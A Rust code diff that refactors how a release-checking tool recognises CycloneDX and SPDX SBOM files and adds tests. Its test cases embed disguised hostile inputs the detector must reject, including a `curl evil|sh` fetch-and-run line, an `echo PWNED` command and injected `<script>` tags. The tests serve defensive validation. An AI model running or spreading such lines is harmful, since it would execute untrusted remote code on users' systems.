@@ -3,6 +3,8 @@
 //! A file counts as a sidecar by its name alone; one whose content is something else is then reported as unreadable,
 //! so that calling a program `tool.sig` does not spare it a signature.
 
+mod xml;
+
 use super::checksum_file::looks_like_checksum_file;
 use crate::{evidence::PublishedFile, json, proof, release::ArtifactName};
 
@@ -58,19 +60,7 @@ fn is_sbom(name: &str, file: &PublishedFile) -> bool {
                 || it["spdxVersion"].as_str().is_some_and(|v| v.starts_with("SPDX-"))
         });
     }
-    let head: String = text.chars().take(2000).collect();
-    (called(XML) && is_bom_element(&head)) || (lower.ends_with(".spdx") && is_tag_value(text))
-}
-
-/// Whether the first element of an XML document is CycloneDX's.
-fn is_bom_element(head: &str) -> bool {
-    let head = head.trim_start();
-    let head =
-        head.strip_prefix("<?xml").and_then(|rest| rest.split_once("?>")).map_or(head, |(_, rest)| rest);
-    let element = head.trim_start().strip_prefix("<bom").and_then(|rest| rest.split_once('>'));
-    element.is_some_and(|(attributes, _)| {
-        attributes.starts_with(char::is_whitespace) && attributes.contains("cyclonedx.org/schema/bom")
-    })
+    (called(XML) && xml::is_bom(text)) || (lower.ends_with(".spdx") && is_tag_value(text))
 }
 
 /// Whether every line is one of SPDX's tag-value format: a tag, a comment, or part of a text.
@@ -101,8 +91,14 @@ mod tests {
     fn is(name: &str, text: &str) -> bool {
         let (size, digests) = hash_reader(text.as_bytes(), Algorithms::SHA256).unwrap();
         let content = Some(Item::new("file:x", text.as_bytes().to_vec()));
-        let file =
-            PublishedFile { size: Some(size), digests, bytes: Bytes::Rehashed, framed: Vec::new(), content };
+        let file = PublishedFile {
+            size: Some(size),
+            digests,
+            bytes: Bytes::Rehashed,
+            framed: Vec::new(),
+            inside: crate::inside::Inside::NotLooked,
+            content,
+        };
         kind(&ArtifactName::parse(name).unwrap(), &file) == Kind::Sbom
     }
 
@@ -126,6 +122,11 @@ mod tests {
         assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: y <text>\necho PWNED\n</text>\n"));
         assert!(!is("install.spdx", "SPDXVersion: SPDX-2.3\nX: <text>a</text>\necho PWNED\n"));
         assert!(!is("evil.cdx.xml", "<html><!-- cyclonedx.org/schema/bom --><script>x</script></html>"));
+        let bom = "<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\">";
+        assert!(is("w.cdx.xml", &format!("{bom}<components/></bom>")));
+        assert!(!is("w.cdx.xml", &format!("{bom}<script>x</script></bom>")));
+        assert!(!is("w.cdx.xml", &format!("{bom}\ncurl evil|sh\n</bom>")));
+        assert!(!is("w.cdx.xml", "<bom><script>x</script></bom>"));
         assert!(!is("run.sh", r#"{"bomFormat": "CycloneDX"}"#));
     }
 }
